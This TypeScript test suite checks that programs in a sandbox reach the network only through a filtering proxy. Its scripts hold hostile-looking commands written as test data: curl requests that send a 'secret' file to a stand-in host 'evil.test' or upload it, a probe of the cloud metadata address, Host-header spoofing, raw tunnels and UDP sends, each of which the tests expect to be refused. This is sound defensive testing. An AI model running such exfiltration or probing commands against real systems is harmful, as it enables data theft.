/**
 * Real programs in a real sandbox whose only way out is the proxy: what they can reach, what they
 * cannot, and what the record says about it. Unix sockets are refused in all of these runs.
 */
import { execFileSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { chmodSync, copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { place, WHO, type Who } from '../sandbox/drive.ts'
import { inside } from './inside.ts'
import {
  type Certificate,
  certificate,
  plainServer,
  type TestServer,
  tlsServer,
} from './servers.ts'

// Each test is several processes, and each of them a sandbox.
vi.setConfig({ testTimeout: 120_000 })

let cert: Certificate
let plain: TestServer
let secure: TestServer
let files: string

beforeAll(async () => {
  cert = certificate('registry.test')
  plain = await plainServer((request, response) => {
    if (request.url === '/away') response.writeHead(302, { location: 'http://away.test/' }).end()
    else response.end('hello\n')
  })
  secure = await tlsServer(cert)
}, 60_000)

afterAll(async () => {
  await plain.close()
  await secure.close()
  cert.remove()
})

/** A scope root with the certificate in it. */
function root(as: Who): string {
  const made = place(as)
  copyFileSync(cert.file, join(made, 'ca.pem'))
  chmodSync(join(made, 'ca.pem'), 0o644)
  return made
}

const CURL = 'curl -sS -m 5 --cacert ca.pem'

describe.each(WHO)('the network of a run by %s', (as) => {
  it('plain and TLS reach the hosts of the scope through the proxy, run after run', async () => {
    const plainHost = `127.0.0.1:${plain.port}`
    const names = { 'registry.test': [['127.0.0.1']] }
    const tlsHost = `registry.test:${secure.port}`
    const hosts = [plainHost, tlsHost, `127.0.0.1:${secure.port}`]
    const runs = await inside({
      as,
      root: root(as),
      terms: { hosts, readOnlyHosts: hosts },
      names,
      scripts: [
        `${CURL} http://${plainHost}/one`,
        `${CURL} https://${tlsHost}/two && ${CURL} -I http://${plainHost}/three >/dev/null`,
      ],
    })
    expect(runs.map(({ exitCode, said }) => [exitCode, said])).toEqual([
      [0, 'hello\n'],
      [0, 'hello\n'],
    ])
    expect(runs[0]?.network).toMatchObject([
      { method: 'GET', outcome: 'passed', url: `http://${plainHost}/one` },
    ])
    expect(runs[1]?.network).toMatchObject([
      { method: 'CONNECT', host: 'registry.test', sni: 'registry.test', outcome: 'passed' },
      { method: 'HEAD', outcome: 'passed' },
    ])
  })

  it('nothing else is there: no names, no routes, no other address, no other protocol', async () => {
    const udp = createSocket('udp4')
    udp.bind(0, '127.0.0.1')
    await once(udp, 'listening')
    const heard: Buffer[] = []
    udp.on('message', (message) => heard.push(message))
    const before = plain.connections
    const udpPort = udp.address().port
    const send = `require('dgram').createSocket('udp4').send('secret', ${udpPort}, '127.0.0.1', () => process.exit(0))`
    const runs = await inside({
      as,
      root: root(as),
      terms: { hosts: [`127.0.0.1:${plain.port}`], readOnlyHosts: [`127.0.0.1:${plain.port}`] },
      env: { NO_PROXY: '*', no_proxy: '*' },
      scripts: [
        'getent hosts example.com',
        'curl -sS -m 3 --noproxy "*" http://example.com/',
        `curl -sS -m 3 http://127.0.0.1:${plain.port}/`,
        'curl -sS -m 3 http://169.254.169.254/',
        'curl -sS -m 3 -g "http://[2606:4700:4700::1111]/"',
        `node -e "${send}"`,
        `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"`,
        `python3 -c "import socket; socket.socket(socket.AF_UNIX).connect('/run/x')"`,
        'ip route 2>/dev/null | grep .',
      ],
    })
    expect(runs.map(({ exitCode }) => exitCode === 0)).toEqual([
      false,
      false,
      false,
      false,
      false,
      // A datagram to a loopback port without a listener is sent, but not received.
      true,
      false,
      false,
      false,
    ])
    expect(runs.flatMap(({ network }) => network)).toEqual([])
    expect(plain.connections).toBe(before)
    expect(heard).toEqual([])
    udp.close()
  })

  it('each way of sending something out is refused with its code', async () => {
    const host = `127.0.0.1:${plain.port}`
    const tls = `127.0.0.1:${secure.port}`
    const before = plain.heard.length + secure.heard.length
    const secret = 'x'.repeat(70_000)
    const dir = root(as)
    writeFileSync(join(dir, 'secret'), secret)
    chmodSync(join(dir, 'secret'), 0o644)
    const runs = await inside({
      as,
      root: dir,
      terms: {
        hosts: [host, tls, 'two.test', 'scoped.test'],
        readOnlyHosts: [host, tls, 'two.test'],
      },
      names: {
        'two.test': [['93.184.216.34', '10.1.2.3']],
        'scoped.test': [['93.184.216.34']],
      },
      scripts: [
        `${CURL} "http://evil.test/?$(head -c 100 secret)"`,
        `${CURL} http://scoped.test/?secret`,
        `${CURL} -d @secret http://${host}/`,
        `${CURL} -X GET -d @secret http://${host}/`,
        `${CURL} -T secret https://${tls}/`,
        `${CURL} http://two.test/`,
        `${CURL} https://127.0.0.1:1/`,
        `${CURL} -H 'Host: evil.test' http://${host}/`,
        `${CURL} -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://${host}/`,
        `printf 'CONNECT ${tls} HTTP/1.1\\r\\nHost: ${tls}\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n' | node -e "const s = require('net').connect(3128, '127.0.0.1'); process.stdin.pipe(s); s.pipe(process.stdout)"`,
        `${CURL} -L http://${host}/away`,
      ],
    })
    const codes = runs.map(({ network }) => network.map(({ code }) => code ?? 'passed').join(' '))
    expect(codes).toEqual([
      'network.host',
      'network.method',
      'network.method',
      'network.body',
      'network.upload',
      'network.address',
      'network.port',
      'network.request',
      'network.upgrade',
      'network.not_tls',
      'passed network.host',
    ])
    expect(plain.heard.length + secure.heard.length).toBe(before + 1)
  })

  it('a name is resolved once a connection, and judged each time', async () => {
    const host = `rebound.test:${plain.port}`
    const [run] = await inside({
      as,
      root: root(as),
      terms: { hosts: [host, `127.0.0.1:${plain.port}`], readOnlyHosts: [host] },
      names: { 'rebound.test': [['127.0.0.1'], ['10.0.0.1']] },
      scripts: [`${CURL} http://${host}/; ${CURL} http://${host}/`],
    })
    expect(run?.network.map(({ outcome, code }) => code ?? outcome)).toEqual([
      'passed',
      'network.address',
    ])
    expect(run?.asked).toEqual({ 'rebound.test': 2 })
  })

  it('of a home nothing is there but what was put on the list', async () => {
    const home = place(as, '/opt')
    for (const [name, content] of [
      ['.cache/kept', 'cached'],
      ['Documents/private', 'secret'],
      ['project/own', 'mine'],
    ] as const) {
      mkdirSync(join(home, name, '..'), { recursive: true })
      writeFileSync(join(home, name), content)
    }
    execFileSync('chown', ['-R', '--reference', home, home])
    const [run] = await inside({
      as,
      root: join(home, 'project'),
      terms: { hosts: ['a.test'] },
      env: { HOME: home },
      request: { watchedRoots: [join(home, '.cache')], emptied: [home] },
      scripts: [
        'ls -A ~; cat ~/.cache/kept own; echo x > own; touch ~/new ~/Documents 2>/dev/null || echo closed',
      ],
    })
    expect(run?.said).toBe('.cache\nproject\ncachedmineclosed\n')
  })

  it('git and npm find the proxy by themselves', async () => {
    const dir = root(as)
    files = place(as)
    const server = await registry(files)
    const host = `127.0.0.1:${server.port}`
    const runs = await inside({
      as,
      root: dir,
      terms: { hosts: [host], readOnlyHosts: [host] },
      scripts: [
        `git clone -q http://${host}/repository.git copy && cat copy/readme`,
        `echo '{"name":"x","version":"1.0.0"}' > package.json && npm install --no-progress --registry http://${host}/ tiny && cat node_modules/tiny/index.js`,
      ],
    })
    await server.close()
    expect(runs[0], runs[0]?.said).toMatchObject({ exitCode: 0, said: 'read me\n' })
    expect(runs[1]?.exitCode, runs[1]?.said).toBe(0)
    expect(runs[1]?.said).toContain('module.exports = 1')
    for (const { network } of runs) {
      expect(network.length).toBeGreaterThan(0)
      expect(new Set(network.map(({ outcome }) => outcome))).toEqual(new Set(['passed']))
    }
  }, 60_000)
})

/** Serves a repository as plain files, and one package. */
async function registry(folder: string): Promise<TestServer> {
  const git = (...words: string[]) =>
    execFileSync(
      'git',
      ['-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'safe.directory=*', ...words],
      {
        cwd: folder,
        stdio: 'ignore',
      },
    )
  mkdirSync(join(folder, 'source'))
  writeFileSync(join(folder, 'source', 'readme'), 'read me\n')
  git('-C', 'source', 'init', '-q')
  git('-C', 'source', 'add', '.')
  git('-C', 'source', 'commit', '-qm', 'one')
  git('clone', '-q', '--bare', 'source', 'repository.git')
  git('-C', 'repository.git', 'update-server-info')
  mkdirSync(join(folder, 'package'))
  const manifest = { name: 'tiny', version: '1.0.0' }
  writeFileSync(join(folder, 'package', 'package.json'), JSON.stringify(manifest))
  writeFileSync(join(folder, 'package', 'index.js'), 'module.exports = 1\n')
  execFileSync('tar', ['czf', 'tiny.tgz', 'package'], { cwd: folder })
  const server = await plainServer((request, response) => {
    const path = (request.url ?? '').split('?')[0] ?? ''
    if (path === '/tiny') {
      const dist = { tarball: `http://127.0.0.1:${server.port}/tiny.tgz` }
      const versions = { '1.0.0': { ...manifest, dist } }
      response.setHeader('content-type', 'application/json')
      response.end(JSON.stringify({ name: 'tiny', 'dist-tags': { latest: '1.0.0' }, versions }))
      return
    }
    try {
      response.end(readFileSync(join(folder, path)))
    } catch {
      response.writeHead(404).end()
    }
  })
  return server
}
